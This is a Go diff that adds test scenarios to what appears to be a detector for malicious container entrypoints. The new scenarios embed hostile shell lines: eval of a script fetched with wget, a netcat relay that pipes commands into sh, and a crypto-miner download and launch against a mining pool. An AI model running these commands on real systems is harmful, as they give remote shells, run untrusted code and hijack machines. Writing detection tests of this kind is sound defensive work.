@@ -15,6 +15,7 @@ func variations() []Scenario {
 	return []Scenario{
 		quietMiner(), bashShell(), relayedShell(), redisWorm(), passwordWorm(), selfExtractor(), maskedKeys(), nodeHook(),
 		nightlyBackup(), selfUpdate(), countingBomb(), curlToBash(), sysctlEscape(), lateTask(), secondStart(),
+		takenIn(), twoConnections(), absentMiner(),
 	}
 }
 
@@ -196,6 +197,35 @@ echo installed
 	return ill("v15-second-start", "The first start installs something and ends; the second gives somebody a shell.", image,
 		by(found(execution, "reverse-shell", "203.0.113.58:443"), "/bin/sh -i"),
 	).inPasses("default", "restart")
+}
+
+func takenIn() Scenario {
+	image := script("/entrypoint.sh", `eval "$(wget -q -O - http://198.51.100.12/setup.sh)"
+exec webserver 8080
+`, "/usr/local/bin/webserver")
+	return ill("v16-taken-in", "A shell that runs already takes in a script from an address.", image,
+		by(found(execution, "pipe-download-shell", "198.51.100.12"), "/entrypoint.sh", "wget"),
+	)
+}
+
+func twoConnections() Scenario {
+	image := script("/entrypoint.sh", "nc 198.51.100.66 4444 | sh 2>&1 | nc 198.51.100.66 4445\nexit 0\n")
+	return ill("v17-two-connections", "A shell takes orders from one connection and answers on another.", image,
+		found(execution, "reverse-shell-relay", "198.51.100.66"),
+	)
+}
+
+func absentMiner() Scenario {
+	image := script("/entrypoint.sh", `cd /tmp
+wget -q -O m.tgz http://downloads.example.test/miner-6.21.0-linux-x64.tar.gz
+tar xzf m.tgz
+./miner-6.21.0/miner -o pool.hashvault.pro:443 -u `+wallet+` --tls -k
+sleep 1
+exit 0
+`)
+	return ill("v18-absent-miner", "A miner is to be fetched, cannot be, and is started all the same.", image,
+		found(execution, "miner-cmdline", "pool.hashvault.pro:443"),
+	)
 }
 
 // inlineNode is JavaScript that decodes what it does.
